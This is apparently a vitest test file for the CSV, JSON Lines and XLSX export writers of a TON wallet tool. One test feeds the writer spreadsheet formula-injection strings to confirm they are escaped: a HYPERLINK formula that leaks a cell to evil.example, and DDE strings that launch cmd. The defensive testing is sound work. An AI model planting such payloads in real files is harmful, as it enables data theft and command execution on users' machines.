import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { parseString } from '@fast-csv/parse';
import ExcelJS from 'exceljs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { COLUMNS, columnKeys, NUMERIC_COLUMNS } from '../../shared/exports/columns';
import { isoToUnix } from '../../shared/exports/kinds';
import type { ExportSummary } from '../../shared/exports/summary';
import { unixToIso } from '../../shared/exports/iso-time';
import { formatUnits } from '../../shared/ton/units';
import {
  csvField,
  csvHeader,
  csvNumber,
  csvRecord,
  csvText,
  readCsvText,
} from '../../shared/csv/csv-writer';
import { jsonlRecord } from '../../electron/core/services/exports/writers/jsonl-encoder';
import { PartialFile } from '../../electron/core/services/exports/writers/partial-file';
import {
  exactNumber,
  writeXlsxFromJsonl,
} from '../../electron/core/services/exports/writers/xlsx-writer';

/** Parses CSV with an independent RFC 4180 reader (fast-csv, the one exceljs uses). */
function parseCsv(text: string): Promise<string[][]> {
  return new Promise((resolve, reject) => {
    const rows: string[][] = [];
    parseString(text, { headers: false, ignoreEmpty: false })
      .on('data', (r: string[]) => rows.push(r))
      .on('error', reject)
      .on('end', () => resolve(rows));
  });
}

let dir: string;
beforeEach(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), 'export-writers-'));
});
afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe('CSV (RFC 4180)', () => {
  const cols = ['a', 'b', 'c'];
  it('quotes fields with commas, quotes and line breaks, doubles quotes, ends records with CRLF', async () => {
    const tricky = { a: 'plain', b: 'he said "hi", then\nleft', c: 'x\r\ny' };
    const text =
      csvHeader(cols, false) + csvRecord(cols, tricky) + csvRecord(cols, { a: 'ünïcødé 💎' });
    expect(text.endsWith('\r\n')).toBe(true);
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "x"')).toBe('"say ""x"""');
    expect(csvField('no quoting')).toBe('no quoting');
    const rows = await parseCsv(text);
    expect(rows).toEqual([
      cols,
      ['plain', 'he said "hi", then\nleft', 'x\r\ny'],
      ['ünïcødé 💎', '', ''],
    ]);
  });

  it("one formula rule: text starting =, +, -, @, tab, CR or ' gets one '; numbers stay numbers", () => {
    const hash = '+0CiGM5x5mJopQagqLwISMwAu9Yh0D1lu2CrQbpatLk=';
    const raw = `-1:${'3'.repeat(64)}`;
    const hostile = [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      hash,
      hash.replace(/\+/g, '-'),
      raw,
      "'=already quoted",
    ];
    for (const text of hostile) {
      // Text-typed: a spreadsheet reads it as text, never as a (broken) formula.
      expect(csvText(text)).toBe(`'${text}`);
      // Exact: the one added apostrophe is all that changed.
      expect(readCsvText(csvText(text))).toBe(text);
    }
    for (const text of ['plain', 'alice.ton', `0:${'a'.repeat(64)}`, '', 'a=b', "it's"]) {
      expect(csvText(text)).toBe(text);
      expect(readCsvText(text)).toBe(text);
    }
    // Number columns: numbers (negative amounts too) as they are; anything else is text.
    expect(csvNumber('-1.5')).toBe('-1.5');
    expect(csvNumber('1000')).toBe('1000');
    expect(csvNumber('-1+cmd|x')).toBe("'-1+cmd|x");
    // In a record, the column decides: an amount stays a number, a comment "-5" is text.
    const cols = ['amount', 'comment'];
    expect(csvRecord(cols, { amount: '-5', comment: '-5' }, NUMERIC_COLUMNS)).toBe("-5,'-5\r\n");
  });

  it('writes a UTF-8 BOM only when asked', () => {
    expect(csvHeader(cols, true).charCodeAt(0)).toBe(0xfeff);
    expect(csvHeader(cols, false).charCodeAt(0)).not.toBe(0xfeff);
    expect(Buffer.from(csvHeader(cols, true), 'utf8').subarray(0, 3)).toEqual(
      Buffer.from([0xef, 0xbb, 0xbf]),
    );
  });
});

describe('JSON Lines', () => {
  it('one object per line, keys in column order, values kept as exact strings', () => {
    const line = jsonlRecord(['lt', 'amount_raw', 'comment'], {
      comment: 'a\nb',
      amount_raw: '123456789012345678901234567890',
      lt: '1',
    });
    expect(line.endsWith('\n')).toBe(true);
    expect(line.slice(0, -1)).not.toContain('\n');
    expect(Object.keys(JSON.parse(line))).toEqual(['lt', 'amount_raw', 'comment']);
    expect(JSON.parse(line).amount_raw).toBe('123456789012345678901234567890');
  });
});

describe('amount and time formatting', () => {
  it('applies decimals exactly', () => {
    expect(formatUnits(1_500_000_000n, 9)).toBe('1.5');
    expect(formatUnits(1n, 9)).toBe('0.000000001');
    expect(formatUnits('123456789012345678901234567890', 18)).toBe(
      '123456789012.34567890123456789',
    );
    expect(formatUnits(-5n, 2)).toBe('-0.05');
    expect(formatUnits(7n, 0)).toBe('7');
    expect(formatUnits(0n, 6)).toBe('0');
    expect(() => formatUnits(1n, -1)).toThrow(RangeError);
  });
  it('reads ISO dates as UTC and refuses other text', () => {
    expect(isoToUnix('2024-05-01')).toBe(1714521600);
    expect(isoToUnix('2024-05-01T00:00:00')).toBe(1714521600);
    expect(isoToUnix('2024-05-01T02:00:00+02:00')).toBe(1714521600);
    expect(unixToIso(1714521600)).toBe('2024-05-01T00:00:00Z');
    expect(() => isoToUnix('yesterday')).toThrow(/ISO 8601/);
    expect(() => isoToUnix('05/01/2024')).toThrow(/ISO 8601/);
  });
});

describe('partial file', () => {
  it('is cut back to the checkpointed size on resume, so rows after the checkpoint do not repeat', async () => {
    const p = path.join(dir, 'out.csv.partial');
    const f = await PartialFile.open(p, null);
    const committed = await f.append('header\r\nrow1\r\n');
    await f.append('row2-not-checkpointed\r\n'); // a crash after writing, before the checkpoint
    await f.close();
    const resumed = await PartialFile.open(p, committed);
    await resumed.append('row2\r\n');
    await resumed.commit(path.join(dir, 'out.csv'));
    expect(await readFile(path.join(dir, 'out.csv'), 'utf8')).toBe('header\r\nrow1\r\nrow2\r\n');
  });

  it('refuses a partial file shorter than its checkpoint', async () => {
    const p = path.join(dir, 'short.partial');
    await writeFile(p, 'abc');
    await expect(PartialFile.open(p, 10)).rejects.toThrow(/checkpoint says 10/);
  });
});

describe('XLSX', () => {
  it('exactNumber keeps only values Excel can hold without loss', () => {
    expect(exactNumber('1.5')).toBe(1.5);
    expect(exactNumber('0.000000001')).toBe(1e-9);
    expect(exactNumber('123456789012.34567890123456789')).toBeNull();
    expect(exactNumber('9007199254740993')).toBeNull();
    expect(exactNumber('abc')).toBeNull();
  });

  it('has a summary sheet and one row per JSON line with exact raw amounts', async () => {
    const keys = columnKeys('jetton-transfers');
    const rows: Record<string, string>[] = [
      {
        time_utc: unixToIso(1714521600),
        unix_time: '1714521600',
        lt: '100',
        amount: '1.5',
        amount_raw: '1500000000',
        jetton_symbol: 'DEMO',
        comment: '=cmd|x',
      },
      {
        time_utc: unixToIso(1714521700),
        unix_time: '1714521700',
        lt: '200',
        amount: '123456789012.34567890123456789',
        amount_raw: '123456789012345678901234567890',
        jetton_symbol: 'BIG',
      },
    ];
    const jsonl = path.join(dir, 'rows.jsonl');
    await writeFile(jsonl, rows.map((r) => jsonlRecord(keys, r)).join(''));
    const summary: ExportSummary = {
      kind: 'jetton-transfers',
      format: 'xlsx',
      address: 'EQtest',
      rows: 2,
      items: 2,
      totals: [
        {
          asset: '0:ab',
          symbol: 'DEMO',
          decimals: 9,
          inUnits: '1500000000',
          outUnits: '0',
          in: '1.5',
          out: '0',
        },
      ],
      feesNano: '0',
      fees: '0',
      firstTime: 1714521600,
      lastTime: 1714521700,
      pinnedEndLt: '200',
      from: null,
      to: null,
      pages: 1,
      duplicatesDropped: 0,
      startedAt: 0,
      finishedAt: Date.now(),
    };
    const out = path.join(dir, 'out.xlsx');
    await writeXlsxFromJsonl(jsonl, out, COLUMNS['jetton-transfers'], summary);

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(out);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Summary', 'Rows']);
    const sum = wb.getWorksheet('Summary')!;
    const labels = new Map<string, unknown>();
    sum.eachRow((r) => labels.set(String(r.getCell(1).value), r.getCell(2).value));
    expect(labels.get('Rows')).toBe(2);
    expect(labels.get('Pinned end lt')).toBe('200');
    const data = wb.getWorksheet('Rows')!;
    expect(data.rowCount).toBe(3);
    expect(data.getRow(1).values).toEqual([undefined, ...keys]);
    const col = (k: string) => keys.indexOf(k) + 1;
    expect(data.getRow(2).getCell(col('amount')).value).toBe(1.5);
    expect(data.getRow(2).getCell(col('comment')).value).toBe('=cmd|x'); // text, never a formula
    expect(data.getRow(3).getCell(col('amount')).value).toBe('123456789012.34567890123456789');
    expect(data.getRow(3).getCell(col('amount_raw')).value).toBe('123456789012345678901234567890');
  });
});
